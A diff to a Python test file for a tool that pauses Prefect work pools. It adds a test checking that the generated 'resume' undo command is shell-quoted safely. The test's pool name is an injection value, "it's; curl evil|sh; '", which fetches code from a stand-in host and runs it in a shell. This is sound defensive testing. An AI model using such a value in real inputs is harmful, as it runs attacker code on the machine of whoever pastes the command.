@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from collections import Counter
 from dataclasses import replace
 from datetime import timedelta
@@ -181,7 +182,7 @@ def test_a_pool_is_paused_by_its_name():
     (act,) = plan_acts(known(ONE, policy=rules, incidents=[STORM])).acts
 
     assert (act.mode, act.target_type, act.target) == ("dry_run", "work-pool", "pool")
-    assert act.undo == "prefect work-pool resume 'pool'"
+    assert act.undo == "prefect work-pool resume pool"
 
 
 @pytest.mark.parametrize(
@@ -358,3 +359,20 @@ def test_never_more_often_never_earlier_never_when_off(rule, gaps, heals):
     for number, (crashed, act) in enumerate(retried_at):
         assert act.at >= crashed.at + retry.backoff * 2**number
         assert act.number == number + 1
+
+
+def test_the_command_that_takes_a_pause_back_is_safe_to_paste():
+    """A pool may be called anything but a few signs; people copy the command into a shell."""
+    pool = "it's; curl evil|sh; '"
+    paused = Act(
+        id="p",
+        kind=ActKind.PAUSED,
+        mode=ACT,
+        at=NOON,
+        target=pool,
+        target_type="work-pool",
+        name=pool,
+        why="",
+    )
+
+    assert shlex.split(paused.undo) == ["prefect", "work-pool", "resume", pool]
